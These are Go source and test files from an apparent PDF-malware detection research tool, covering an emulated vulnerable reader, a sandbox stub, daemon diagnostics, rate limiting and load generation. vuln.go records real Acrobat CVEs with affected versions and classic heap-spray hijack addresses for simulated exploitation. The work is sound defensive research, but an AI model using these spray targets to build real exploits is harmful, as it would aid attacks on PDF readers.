	if !winos.IsExecutablePath(`C:\a\B.EXE`) || winos.IsExecutablePath(`C:\a\b.txt`) {
		t.Error("IsExecutablePath heuristic broken")
	}
}
