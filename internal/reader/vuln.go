package reader

// CVE identifiers emulated by the reader. Triggering conditions are
// simplified predicates over the vulnerable API's arguments; exploitability
// further depends on the viewer version (the paper's testbed ran Acrobat
// 8.0/9.0, on which CVE-2009-1492 and CVE-2013-0640 samples "did nothing").
const (
	CVE20082992 = "CVE-2008-2992" // util.printf format-string overflow
	CVE20090927 = "CVE-2009-0927" // Collab.getIcon buffer overflow
	CVE20091492 = "CVE-2009-1492" // getAnnots — not exploitable on 8.0/9.0 here
	CVE20091493 = "CVE-2009-1493" // spell.customDictionaryOpen overflow
	CVE20094324 = "CVE-2009-4324" // media.newPlayer use-after-free
	CVE20104091 = "CVE-2010-4091" // printSeps memory corruption
	CVE20102883 = "CVE-2010-2883" // CoolType SING table overflow (out-of-JS)
	CVE20103654 = "CVE-2010-3654" // Flash authplay.dll (out-of-JS)
	CVE20130640 = "CVE-2013-0640" // XFA/JBIG2 — not exploitable on 8.0/9.0 here
)

// vulnSpec describes one emulated vulnerability.
type vulnSpec struct {
	ID string
	// Affects reports whether the given viewer version is exploitable.
	Affects func(version float64) bool
	// Target is the control-flow hijack address the public exploits use;
	// the spray must cover it for the hijack to land.
	Target uint64
}

// Classic heap-spray landing zones used by the public exploits. The
// lower-address targets need smaller sprays, which is why Figure 7's
// malicious samples range from ~103 MB up.
const (
	sprayTarget    = 0x0c0c0c0c // ~202 MB above heap base
	sprayTargetMid = 0x0a0a0a0a // ~168 MB
	sprayTargetLow = 0x06060606 // ~101 MB
)

// heapBase approximates where script allocations start in the address
// space.
const heapBase = 0x00400000

var vulnDB = map[string]vulnSpec{
	CVE20082992: {ID: CVE20082992, Affects: func(v float64) bool { return v < 9.0 }, Target: sprayTarget},
	CVE20090927: {ID: CVE20090927, Affects: func(v float64) bool { return v <= 9.0 }, Target: sprayTarget},
	CVE20091492: {ID: CVE20091492, Affects: func(v float64) bool { return false }, Target: sprayTarget},
	CVE20091493: {ID: CVE20091493, Affects: func(v float64) bool { return v <= 9.1 }, Target: sprayTargetMid},
	CVE20094324: {ID: CVE20094324, Affects: func(v float64) bool { return v <= 9.2 }, Target: sprayTargetMid},
	CVE20104091: {ID: CVE20104091, Affects: func(v float64) bool { return v <= 9.4 }, Target: sprayTargetLow},
	CVE20102883: {ID: CVE20102883, Affects: func(v float64) bool { return v <= 9.4 }, Target: sprayTargetLow},
	CVE20103654: {ID: CVE20103654, Affects: func(v float64) bool { return v <= 9.4 }, Target: sprayTargetLow},
	CVE20130640: {ID: CVE20130640, Affects: func(v float64) bool { return false }, Target: sprayTarget},
}

// TargetOf exposes a CVE's hijack address (corpus generators size their
// sprays against it).
func TargetOf(cve string) (uint64, bool) {
	spec, ok := vulnDB[cve]
	if !ok {
		return 0, false
	}
	return spec.Target, true
}

// HeapBase exposes the spray coverage origin.
func HeapBase() uint64 { return heapBase }

// ExploitStage records how far an exploit attempt got.
type ExploitStage string

// Exploit outcomes.
const (
	// StageNotVulnerable: the viewer version is not affected; the call
	// returns normally and the sample "does nothing".
	StageNotVulnerable ExploitStage = "not-vulnerable"
	// StageCrash: control-flow hijack missed the spray (or landed on
	// garbage); the reader process crashes.
	StageCrash ExploitStage = "crash"
	// StageShellcode: the hijack landed in the sled and the payload ran.
	StageShellcode ExploitStage = "shellcode"
)

// ExploitEvent is one attempt observed while opening a document.
type ExploitEvent struct {
	CVE     string
	Stage   ExploitStage
	InJS    bool
	Payload []PayloadOp
}
