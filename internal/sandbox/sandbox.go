// Package sandbox is the stand-in for Sandboxie [39], the existing sandbox
// tool the paper's confinement uses to run target programs before an alert
// is decided (Table III). It confines processes inside the fake OS: a
// sandboxed process runs, but on alert it is terminated and its executable
// isolated.
package sandbox

import (
	"sync"

	"pdfshield/internal/winos"
)

// Sandbox runs programs in a confined environment.
type Sandbox struct {
	os *winos.OS

	mu    sync.Mutex
	procs map[int]string // pid -> exe path
}

// New returns a sandbox over the fake OS.
func New(osState *winos.OS) *Sandbox {
	return &Sandbox{os: osState, procs: make(map[int]string)}
}

// Run launches path inside the sandbox and returns the pid.
func (s *Sandbox) Run(path string, parentPID int) int {
	pid := s.os.Spawn(path, parentPID, true)
	s.mu.Lock()
	defer s.mu.Unlock()
	s.procs[pid] = path
	return pid
}

// Terminate kills one sandboxed process.
func (s *Sandbox) Terminate(pid int) bool {
	s.mu.Lock()
	_, tracked := s.procs[pid]
	delete(s.procs, pid)
	s.mu.Unlock()
	if !tracked {
		return false
	}
	return s.os.Terminate(pid)
}

// TerminateAll kills every sandboxed process and returns their pids.
func (s *Sandbox) TerminateAll() []int {
	s.mu.Lock()
	pids := make([]int, 0, len(s.procs))
	for pid := range s.procs {
		pids = append(pids, pid)
	}
	s.procs = make(map[int]string)
	s.mu.Unlock()
	for _, pid := range pids {
		s.os.Terminate(pid)
	}
	return pids
}

// Running returns the number of live sandboxed processes.
func (s *Sandbox) Running() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.procs)
}

// PathOf returns the executable of a sandboxed pid.
func (s *Sandbox) PathOf(pid int) (string, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	p, ok := s.procs[pid]
	return p, ok
}
