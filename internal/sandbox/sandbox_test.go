package sandbox

import (
	"testing"

	"pdfshield/internal/winos"
)

func TestRunAndTerminate(t *testing.T) {
	o := winos.NewOS()
	s := New(o)
	pid := s.Run(`C:\mal.exe`, 1)
	if s.Running() != 1 {
		t.Fatal("not running")
	}
	p, ok := o.Process(pid)
	if !ok || !p.Sandboxed || !p.Alive {
		t.Fatalf("process = %+v", p)
	}
	if path, ok := s.PathOf(pid); !ok || path != `C:\mal.exe` {
		t.Errorf("PathOf = %q %v", path, ok)
	}
	if !s.Terminate(pid) {
		t.Fatal("terminate failed")
	}
	if s.Running() != 0 {
		t.Error("still tracked")
	}
	if p, _ := o.Process(pid); p.Alive {
		t.Error("still alive in OS")
	}
	if s.Terminate(pid) {
		t.Error("double terminate")
	}
}

func TestTerminateAll(t *testing.T) {
	o := winos.NewOS()
	s := New(o)
	for i := 0; i < 3; i++ {
		s.Run(`C:\x.exe`, 1)
	}
	pids := s.TerminateAll()
	if len(pids) != 3 || s.Running() != 0 {
		t.Errorf("pids = %v running = %d", pids, s.Running())
	}
	if len(o.AliveProcesses()) != 0 {
		t.Error("processes survived")
	}
}

func TestTerminateUntracked(t *testing.T) {
	o := winos.NewOS()
	s := New(o)
	foreign := o.Spawn(`C:\other.exe`, 0, false)
	if s.Terminate(foreign) {
		t.Error("terminated a process the sandbox does not own")
	}
	if p, _ := o.Process(foreign); !p.Alive {
		t.Error("foreign process killed")
	}
}
