package serve

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
)

// metricValue extracts the value of one exact series from a Prometheus
// text exposition (NaN-free registry, so 0 means absent-or-zero; use
// metricPresent to distinguish).
func metricValue(t *testing.T, text, series string) float64 {
	t.Helper()
	for _, line := range strings.Split(text, "\n") {
		if !strings.HasPrefix(line, series+" ") {
			continue
		}
		v, err := strconv.ParseFloat(line[len(series)+1:], 64)
		if err != nil {
			t.Fatalf("bad metric line %q: %v", line, err)
		}
		return v
	}
	return 0
}

func getBody(t *testing.T, url string) (int, []byte) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s: read: %v", url, err)
	}
	return resp.StatusCode, body
}

// TestDebugSurfaceEndToEnd is the acceptance test for the daemon's live
// debug surface: a deep-scanned document and an errored document
// submitted through POST /v1/scan are retrievable afterwards from
// /v1/debug/traces with their phase timelines and retention reasons, the
// deep-scan latency histogram's exemplar names the document, and the SLO
// burn-rate gauges exported on /v1/metrics move once the induced load
// starts breaching objectives.
func TestDebugSurfaceEndToEnd(t *testing.T) {
	reg := obs.NewRegistry()
	s := newTestServer(t, Config{
		Workers:  2,
		Pipeline: pipeline.Options{Obs: reg, Depth: pipeline.DepthDeep},
	})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	burnSeries := obs.Series(obs.MetricSLOBurnRate, "slo", "all-docs")
	_, before := getBody(t, ts.URL+"/v1/metrics")
	if got := metricValue(t, string(before), burnSeries); got != 0 {
		t.Fatalf("burn rate %v before any submission, want 0", got)
	}
	if !strings.Contains(string(before), obs.MetricBuildInfo+"{") {
		t.Error("/v1/metrics missing the build-info gauge")
	}

	// Induced load: one deep-scanned document, one hostile document that
	// errors in the front-end (an errored submission always breaches its
	// SLO — a fast failure is not success).
	g := corpus.NewGenerator(4242)
	resp, body := postScan(t, ts.URL, g.BenignFormJS().Raw, map[string]string{HeaderDocID: "doc-deep"})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("deep doc: status %d, body %s", resp.StatusCode, body)
	}
	var sr ScanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatal(err)
	}
	if sr.Depth != "deep" || sr.DeepScanPaths == 0 {
		t.Fatalf("submission did not deep-scan: depth=%q paths=%d", sr.Depth, sr.DeepScanPaths)
	}
	resp, _ = postScan(t, ts.URL, []byte("%PDF-not really, hostile bytes"), map[string]string{HeaderDocID: "doc-broken"})
	if resp.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("hostile doc: status %d, want 422", resp.StatusCode)
	}

	// The deep-scanned document comes back from /v1/debug/traces with its
	// full phase timeline and the deep-scan retention reason.
	status, body := getBody(t, ts.URL+"/v1/debug/traces?doc=doc-deep")
	if status != http.StatusOK {
		t.Fatalf("/v1/debug/traces: status %d", status)
	}
	var byDoc struct {
		Traces []obs.TraceRecord `json:"traces"`
	}
	if err := json.Unmarshal(body, &byDoc); err != nil {
		t.Fatalf("traces JSON: %v\n%s", err, body)
	}
	if len(byDoc.Traces) != 1 {
		t.Fatalf("doc-deep: %d retained records, want 1", len(byDoc.Traces))
	}
	rec := byDoc.Traces[0]
	if strings.Join(rec.Retained, ",") == "" || !strings.Contains(strings.Join(rec.Retained, ","), obs.RetainDeepScan) {
		t.Errorf("doc-deep retained as %v, want deep-scan", rec.Retained)
	}
	phases := make(map[string]bool)
	for _, sp := range rec.Trace.Spans {
		phases[sp.Phase] = true
	}
	for _, want := range []string{obs.PhaseParse, obs.PhaseAnalyze, obs.PhaseInstrument, obs.PhaseOpen, obs.PhaseDetect} {
		if !phases[want] {
			t.Errorf("doc-deep timeline missing the %s phase: %+v", want, rec.Trace.Spans)
		}
	}

	// The errored document is tail-retained with its error text.
	_, body = getBody(t, ts.URL+"/v1/debug/traces?doc=doc-broken")
	byDoc.Traces = nil
	if err := json.Unmarshal(body, &byDoc); err != nil {
		t.Fatal(err)
	}
	if len(byDoc.Traces) != 1 || !strings.Contains(strings.Join(byDoc.Traces[0].Retained, ","), obs.RetainErrored) {
		t.Fatalf("doc-broken not retained as errored: %+v", byDoc.Traces)
	}
	if byDoc.Traces[0].Trace.Error == "" {
		t.Error("errored trace lost its error text")
	}

	// The deep-scan histogram's exemplar names the document behind the
	// observation.
	snap := reg.Snapshot()
	found := false
	for _, ex := range snap.Histograms[obs.MetricDeepScanSeconds].Exemplars {
		if ex.DocID == "doc-deep" {
			found = true
		}
	}
	if !found {
		t.Errorf("deep-scan exemplars do not name doc-deep: %+v",
			snap.Histograms[obs.MetricDeepScanSeconds].Exemplars)
	}
	found = false
	for _, ex := range snap.Histograms[obs.MetricDocSeconds].Exemplars {
		if ex.DocID == "doc-deep" || ex.DocID == "doc-broken" {
			found = true
		}
	}
	if !found {
		t.Errorf("doc-latency exemplars name no submitted doc: %+v",
			snap.Histograms[obs.MetricDocSeconds].Exemplars)
	}

	// The burn-rate gauge moved under the induced load: the errored
	// submission breached the catch-all objective.
	_, after := getBody(t, ts.URL+"/v1/metrics")
	if got := metricValue(t, string(after), burnSeries); got <= 0 {
		t.Errorf("burn rate still %v after an SLO-breaching submission", got)
	}
	if got := metricValue(t, string(after),
		obs.Series(obs.MetricFlightRetained, "reason", obs.RetainErrored)); got != 1 {
		t.Errorf("flight retention counter = %v, want 1", got)
	}

	// The rest of the debug surface answers on the daemon's own mux.
	for _, path := range []string{"/v1/debug/traces", "/v1/debug/slow", "/v1/debug/slo", "/v1/debug/stalls"} {
		status, body := getBody(t, ts.URL+path)
		if status != http.StatusOK || !json.Valid(body) {
			t.Errorf("GET %s: status %d, valid JSON %v", path, status, json.Valid(body))
		}
	}
}

// TestServePprofOptIn: the daemon mounts net/http/pprof only behind the
// explicit -pprof opt-in; without it the conventional paths answer 404.
func TestServePprofOptIn(t *testing.T) {
	off := newTestServer(t, Config{Workers: 1})
	tsOff := httptest.NewServer(off.Handler())
	defer tsOff.Close()
	for _, path := range []string{"/debug/pprof/", "/debug/pprof/heap", "/debug/pprof/profile"} {
		status, _ := getBody(t, tsOff.URL+path)
		if status != http.StatusNotFound {
			t.Errorf("pprof off: GET %s = %d, want 404", path, status)
		}
	}

	on := newTestServer(t, Config{Workers: 1, Pprof: true})
	tsOn := httptest.NewServer(on.Handler())
	defer tsOn.Close()
	status, body := getBody(t, tsOn.URL+"/debug/pprof/")
	if status != http.StatusOK || !strings.Contains(string(body), "goroutine") {
		t.Errorf("pprof on: GET /debug/pprof/ = %d", status)
	}
}

// TestDoctorReport runs the one-shot doctor against a live daemon and
// checks the report covers health, SLOs, slow traces and key metrics.
func TestDoctorReport(t *testing.T) {
	s := newTestServer(t, Config{Workers: 1})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	g := corpus.NewGenerator(4242)
	resp, _ := postScan(t, ts.URL, g.BenignFormJS().Raw, nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("scan status %d", resp.StatusCode)
	}

	var sb strings.Builder
	if err := RunDoctor(strings.TrimPrefix(ts.URL, "http://"), &sb); err != nil {
		t.Fatalf("RunDoctor: %v", err)
	}
	out := sb.String()
	for _, want := range []string{
		"== health ==", "== slo burn rates ==", "== slowest retained traces ==",
		"== stall watchdog ==", "== key metrics ==", "pdfshield_build_info",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("doctor report missing %q\n---\n%s", want, out)
		}
	}

	// Unreachable nodes are the one hard error.
	if err := RunDoctor("127.0.0.1:1", &sb); err == nil {
		t.Error("doctor reported success against a dead address")
	}
}
