package serve

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strings"
	"time"
)

// doctorTimeout bounds each of the doctor's fetches; a wedged node must
// not wedge the diagnosis too.
const doctorTimeout = 10 * time.Second

// RunDoctor performs a one-shot remote diagnosis of a running daemon:
// it fetches the node's health, SLO status, slowest retained traces,
// stall reports and key metrics, and pretty-prints a report to w. This
// is `pdfshield-serve -doctor <addr>` — the 3am command that answers
// "what is that node doing" without attaching a profiler.
//
// The exit contract is diagnostic, not binary: RunDoctor returns an
// error only when the node is unreachable; a degraded node (burning
// SLO budget, stalled documents) still produces a report.
func RunDoctor(target string, w io.Writer) error {
	base := peerURL(target)
	client := &http.Client{Timeout: doctorTimeout}

	fmt.Fprintf(w, "pdfshield doctor: %s\n\n", base)

	health, err := doctorJSON(client, base+"/v1/healthz")
	if err != nil {
		// Draining nodes answer 503 with a body; only a transport error is
		// "unreachable".
		return fmt.Errorf("doctor: %s unreachable: %w", base, err)
	}
	fmt.Fprintf(w, "== health ==\n")
	doctorKV(w, health)

	if slo, err := doctorJSON(client, base+"/v1/debug/slo"); err != nil {
		fmt.Fprintf(w, "\n== slo ==\nunavailable: %v\n", err)
	} else {
		fmt.Fprintf(w, "\n== slo burn rates ==\n")
		if objs, ok := slo["objectives"].([]any); ok {
			for _, o := range objs {
				m, _ := o.(map[string]any)
				if m == nil {
					continue
				}
				obj, _ := m["objective"].(map[string]any)
				fmt.Fprintf(w, "%-16v burn=%-8.2v window=%v/%v lifetime=%v/%v\n",
					obj["name"], m["burn_rate"],
					m["window_breached"], m["window_observed"],
					m["breached"], m["observed"])
			}
		}
	}

	if slow, err := doctorJSON(client, base+"/v1/debug/slow"); err != nil {
		fmt.Fprintf(w, "\n== slow ==\nunavailable: %v\n", err)
	} else {
		fmt.Fprintf(w, "\n== slowest retained traces ==\n")
		if recs, ok := slow["slowest"].([]any); ok {
			for i, r := range recs {
				if i >= 10 {
					break
				}
				m, _ := r.(map[string]any)
				if m == nil {
					continue
				}
				tr, _ := m["trace"].(map[string]any)
				retained := m["retained"]
				if retained == nil {
					retained = "-"
				}
				fmt.Fprintf(w, "%8.3fs %-30v outcome=%-14v depth=%-8v retained=%v\n",
					num(m["total_seconds"]), str(tr["doc_id"]), str(tr["outcome"]),
					str(tr["depth"]), retained)
			}
		}
	}

	if stalls, err := doctorJSON(client, base+"/v1/debug/stalls"); err != nil {
		fmt.Fprintf(w, "\n== stalls ==\nunavailable: %v\n", err)
	} else {
		fmt.Fprintf(w, "\n== stall watchdog ==\n")
		if st, ok := stalls["stats"].(map[string]any); ok {
			doctorKV(w, st)
		}
		if reps, ok := stalls["reports"].([]any); ok && len(reps) > 0 {
			for _, r := range reps {
				m, _ := r.(map[string]any)
				if m == nil {
					continue
				}
				fmt.Fprintf(w, "stalled: %v in %v (%.1fs)\n",
					m["doc_id"], m["phase"], num(m["stalled_ns"])/1e9)
			}
		}
	}

	if body, err := doctorGet(client, base+"/v1/metrics"); err != nil {
		fmt.Fprintf(w, "\n== metrics ==\nunavailable: %v\n", err)
	} else {
		fmt.Fprintf(w, "\n== key metrics ==\n")
		for _, line := range strings.Split(string(body), "\n") {
			// The full exposition runs to hundreds of lines; the doctor
			// surfaces the decision-driving families.
			if strings.HasPrefix(line, "pdfshield_slo_burn_rate") ||
				strings.HasPrefix(line, "pdfshield_docs_total") ||
				strings.HasPrefix(line, "pdfshield_serve_rejected_total") ||
				strings.HasPrefix(line, "pdfshield_watchdog_stalls_total") ||
				strings.HasPrefix(line, "pdfshield_flight_retained_total") ||
				strings.HasPrefix(line, "pdfshield_build_info") {
				fmt.Fprintln(w, line)
			}
		}
	}
	return nil
}

// doctorGet fetches one URL, accepting any HTTP status (a draining
// node's 503 still carries the body the doctor wants).
func doctorGet(client *http.Client, url string) ([]byte, error) {
	resp, err := client.Get(url)
	if err != nil {
		return nil, err
	}
	defer func() { _ = resp.Body.Close() }()
	return io.ReadAll(io.LimitReader(resp.Body, 16<<20))
}

// doctorJSON fetches one URL and decodes the JSON object it answers.
func doctorJSON(client *http.Client, url string) (map[string]any, error) {
	body, err := doctorGet(client, url)
	if err != nil {
		return nil, err
	}
	var out map[string]any
	if err := json.Unmarshal(body, &out); err != nil {
		return nil, fmt.Errorf("%s: %w", url, err)
	}
	return out, nil
}

// doctorKV prints a flat JSON object's scalar fields, sorted.
func doctorKV(w io.Writer, m map[string]any) {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		switch m[k].(type) {
		case map[string]any, []any:
			continue
		default:
			fmt.Fprintf(w, "%-14s %v\n", k, m[k])
		}
	}
}

// num coerces a decoded JSON number (nil for anything else → 0).
func num(v any) float64 {
	f, _ := v.(float64)
	return f
}

// str coerces a decoded JSON string; absent fields print as "-" rather
// than Go's "<nil>".
func str(v any) string {
	if s, ok := v.(string); ok && s != "" {
		return s
	}
	return "-"
}
