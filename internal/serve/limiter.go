package serve

import (
	"math"
	"sync"
	"time"
)

// TenantLimiter is a per-tenant token bucket: each tenant (the X-Tenant
// header; "" is its own tenant) accrues rate tokens per second up to
// burst, and every admitted document spends one. One hot tenant drains
// only its own bucket, so a scraper hammering the endpoint cannot starve
// the other tenants' admission — quota isolation at the front door,
// before a document costs any pipeline work.
type TenantLimiter struct {
	rate  float64
	burst float64
	now   func() time.Time

	mu      sync.Mutex
	buckets map[string]*bucket
}

type bucket struct {
	tokens float64
	last   time.Time
}

// NewTenantLimiter builds a limiter granting rate tokens/second with the
// given burst ceiling (burst <= 0 takes max(rate, 1)). A nil limiter
// admits everything, so a zero/negative rate disables limiting at the
// call sites via NewTenantLimiter returning nil.
func NewTenantLimiter(rate float64, burst int, now func() time.Time) *TenantLimiter {
	if rate <= 0 {
		return nil
	}
	b := float64(burst)
	if b <= 0 {
		b = math.Max(rate, 1)
	}
	if now == nil {
		now = time.Now
	}
	return &TenantLimiter{rate: rate, burst: b, now: now, buckets: make(map[string]*bucket)}
}

// Allow spends one token from tenant's bucket. When the bucket is empty
// it reports false plus how long until a full token accrues — the value
// the HTTP layer rounds up into Retry-After.
func (l *TenantLimiter) Allow(tenant string) (ok bool, retryAfter time.Duration) {
	if l == nil {
		return true, 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	now := l.now()
	b := l.buckets[tenant]
	if b == nil {
		b = &bucket{tokens: l.burst, last: now}
		l.buckets[tenant] = b
	} else {
		b.tokens = math.Min(l.burst, b.tokens+now.Sub(b.last).Seconds()*l.rate)
		b.last = now
	}
	if b.tokens >= 1 {
		b.tokens--
		return true, 0
	}
	deficit := 1 - b.tokens
	return false, time.Duration(deficit / l.rate * float64(time.Second))
}

// Tenants returns how many tenants have touched the limiter (metrics).
func (l *TenantLimiter) Tenants() int {
	if l == nil {
		return 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.buckets)
}
