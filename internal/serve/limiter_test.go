package serve

import (
	"testing"
	"time"
)

// fakeClock is a manually advanced time source for limiter tests.
type fakeClock struct{ t time.Time }

func (c *fakeClock) now() time.Time          { return c.t }
func (c *fakeClock) advance(d time.Duration) { c.t = c.t.Add(d) }
func newFakeClock() *fakeClock               { return &fakeClock{t: time.Unix(1700000000, 0)} }

// TestLimiterBurstThenDeny: a fresh tenant gets its full burst, then the
// bucket is empty and Allow reports the time until one token accrues.
func TestLimiterBurstThenDeny(t *testing.T) {
	clk := newFakeClock()
	l := NewTenantLimiter(2, 3, clk.now) // 2 tokens/sec, burst 3
	for i := 0; i < 3; i++ {
		if ok, _ := l.Allow("a"); !ok {
			t.Fatalf("burst submission %d denied", i)
		}
	}
	ok, retry := l.Allow("a")
	if ok {
		t.Fatal("4th submission admitted past the burst ceiling")
	}
	if retry <= 0 || retry > time.Second {
		t.Errorf("retry hint %v, want in (0, 500ms]-ish for rate 2/s", retry)
	}
}

// TestLimiterRefill: advancing the clock accrues tokens at the configured
// rate, capped at the burst ceiling.
func TestLimiterRefill(t *testing.T) {
	clk := newFakeClock()
	l := NewTenantLimiter(2, 2, clk.now)
	l.Allow("a")
	l.Allow("a")
	if ok, _ := l.Allow("a"); ok {
		t.Fatal("empty bucket admitted")
	}
	clk.advance(500 * time.Millisecond) // +1 token at 2/sec
	if ok, _ := l.Allow("a"); !ok {
		t.Fatal("refilled token not granted")
	}
	if ok, _ := l.Allow("a"); ok {
		t.Fatal("second token granted after only one accrued")
	}
	clk.advance(time.Hour) // cap at burst, not hours of accrual
	l.Allow("a")
	l.Allow("a")
	if ok, _ := l.Allow("a"); ok {
		t.Fatal("burst ceiling not applied after long idle")
	}
}

// TestLimiterTenantIsolation: one drained tenant must not affect another.
func TestLimiterTenantIsolation(t *testing.T) {
	clk := newFakeClock()
	l := NewTenantLimiter(1, 1, clk.now)
	if ok, _ := l.Allow("hot"); !ok {
		t.Fatal("first submission denied")
	}
	if ok, _ := l.Allow("hot"); ok {
		t.Fatal("hot tenant admitted past its bucket")
	}
	if ok, _ := l.Allow("cold"); !ok {
		t.Fatal("cold tenant starved by the hot tenant's bucket")
	}
	if got := l.Tenants(); got != 2 {
		t.Errorf("Tenants() = %d, want 2", got)
	}
}

// TestLimiterDisabled: rate <= 0 yields a nil limiter that admits all.
func TestLimiterDisabled(t *testing.T) {
	l := NewTenantLimiter(0, 10, nil)
	if l != nil {
		t.Fatal("rate 0 should return a nil (unlimited) limiter")
	}
	for i := 0; i < 100; i++ {
		if ok, _ := l.Allow("any"); !ok {
			t.Fatal("nil limiter denied a submission")
		}
	}
	if l.Tenants() != 0 {
		t.Error("nil limiter should report 0 tenants")
	}
}
