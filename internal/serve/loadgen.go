package serve

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/journal"
	"pdfshield/internal/pipeline"
)

// The load generator replays a document corpus against a running daemon
// and measures the capacity envelope: docs/sec through the admission
// queue, p50/p99 end-to-end latency (handler entry to verdict written,
// queue wait included), and the rejection rate once the queue saturates.
// Run with the daemon journaling, the recorded journal's doc-open stream
// becomes a deterministic submission schedule a later run can replay
// (-load-journal), which is what makes BENCH records comparable across
// PRs: same seed, same corpus bytes, same submission order.

// LoadConfig tunes a RunLoad pass.
type LoadConfig struct {
	// Target is the daemon's base URL ("http://host:port").
	Target string
	// Docs is the total submission count, spread over Unique distinct
	// documents (duplicate-heavy, like real intake; defaults 200/5).
	Docs, Unique int
	// Concurrency is the number of parallel submitters (default 16).
	Concurrency int
	// Seed makes the corpus bytes reproducible (default 20140623).
	Seed int64
	// Tenant is stamped into X-Tenant on every submission.
	Tenant string
	// JournalPath, when set, replays a recorded journal's doc-open stream
	// as the submission schedule instead of generating a fresh order; the
	// document bytes are regenerated from Seed, so the journal (which
	// records sizes, not bytes) is enough.
	JournalPath string
	// MaxRetries bounds per-document 429 retries, each honoring the
	// server's Retry-After (default 50).
	MaxRetries int
	// Client overrides the HTTP client (tests).
	Client *http.Client
}

// LoadStats is the measured capacity of one load pass (the "serve"
// section of a schema/3 bench record).
type LoadStats struct {
	Target      string `json:"target"`
	Concurrency int    `json:"concurrency"`
	Docs        int    `json:"docs"`
	Completed   int    `json:"completed"`
	Failed      int    `json:"failed"`
	Malicious   int    `json:"malicious"`
	NoJS        int    `json:"no_javascript"`
	// Rejected429 counts backpressure answers (429 queue/ratelimit);
	// Retries counts the resubmissions they triggered. RejectionRate is
	// rejected over total submission attempts.
	Rejected429   int     `json:"rejected_429"`
	Retries       int     `json:"retries"`
	RejectionRate float64 `json:"rejection_rate"`
	Seconds       float64 `json:"seconds"`
	DocsPerSec    float64 `json:"docs_per_sec"`
	// Latency percentiles are per successful submission, handler entry to
	// verdict received — queue wait included, retry backoff excluded.
	P50Ms float64 `json:"p50_ms"`
	P90Ms float64 `json:"p90_ms"`
	P99Ms float64 `json:"p99_ms"`
	// ReplayedJournal names the journal whose doc-open stream drove the
	// submission order ("" = freshly generated order).
	ReplayedJournal string `json:"replayed_journal,omitempty"`
}

// LoadCorpus describes the generated corpus of a load record.
type LoadCorpus struct {
	Docs       int   `json:"docs"`
	Unique     int   `json:"unique"`
	Rounds     int   `json:"rounds"`
	TotalBytes int64 `json:"total_bytes"`
}

// LoadRecord is the schema/3 bench record a load pass emits. The header
// matches pdfshield-bench's records field for field, so the -compare
// tooling and the committed BENCH_pr*.json trajectory read both.
type LoadRecord struct {
	Schema     string     `json:"schema"`
	Timestamp  string     `json:"timestamp"`
	GoVersion  string     `json:"go_version"`
	GOOS       string     `json:"goos"`
	GOARCH     string     `json:"goarch"`
	NumCPU     int        `json:"num_cpu"`
	GoMaxProcs int        `json:"gomaxprocs"`
	Seed       int64      `json:"seed"`
	Corpus     LoadCorpus `json:"corpus"`
	Serve      LoadStats  `json:"serve"`
}

// LoadSchema is the record schema emitted by RunLoad.
const LoadSchema = "pdfshield-bench/3"

// loadSamples generates the duplicate-heavy corpus the load pass submits,
// deterministic in seed. Half the population carries Javascript so a load
// pass exercises the whole pipeline (instrument → monitored open →
// detect), not just the no-JS short-circuit — without JS-bearing carriers
// the per-document cost collapses to the static front-end and the
// admission queue never sees realistic pressure.
func loadSamples(seed int64, unique int) []corpus.Sample {
	g := corpus.NewGenerator(seed)
	samples := make([]corpus.Sample, 0, unique)
	for i := 0; len(samples) < unique; i++ {
		switch i % 4 {
		case 0:
			samples = append(samples, g.BenignText((12+8*i)<<10))
		case 1:
			samples = append(samples, g.BenignFormJS())
		case 2:
			samples = append(samples, g.BenignMultiScript())
		default:
			samples = append(samples, g.BenignAttachments(2+i%3, i%2 == 0))
		}
	}
	return samples
}

// loadSchedule builds the submission order: either rounds over the fresh
// corpus, or the doc-open stream of a recorded journal mapped back onto
// the regenerated samples (a doc-open whose ID matches no sample — e.g.
// an operator-submitted stray — is skipped with a count).
func loadSchedule(cfg LoadConfig, samples []corpus.Sample) ([]pipeline.BatchDoc, int, error) {
	if cfg.JournalPath == "" {
		rounds := cfg.Docs / len(samples)
		if rounds < 1 {
			rounds = 1
		}
		docs := make([]pipeline.BatchDoc, 0, rounds*len(samples))
		for r := 0; r < rounds; r++ {
			for _, s := range samples {
				docs = append(docs, pipeline.BatchDoc{ID: fmt.Sprintf("load-r%02d-%s", r, s.ID), Raw: s.Raw})
			}
		}
		return docs, 0, nil
	}
	events, err := journal.ReadFile(cfg.JournalPath)
	if err != nil {
		return nil, 0, fmt.Errorf("load: replay source: %w", err)
	}
	var docs []pipeline.BatchDoc
	skipped := 0
	for _, e := range events {
		if e.T != journal.TypeDocOpen {
			continue
		}
		matched := false
		for i := range samples {
			if e.DocID == samples[i].ID || strings.HasSuffix(e.DocID, "-"+samples[i].ID) {
				docs = append(docs, pipeline.BatchDoc{ID: e.DocID, Raw: samples[i].Raw})
				matched = true
				break
			}
		}
		if !matched {
			skipped++
		}
	}
	if len(docs) == 0 {
		return nil, skipped, fmt.Errorf("load: journal %s has no doc-open events matching the seed-%d corpus", cfg.JournalPath, cfg.Seed)
	}
	return docs, skipped, nil
}

// RunLoad drives one load pass and returns its record. Progress and the
// skipped-schedule count go to w (nil = quiet).
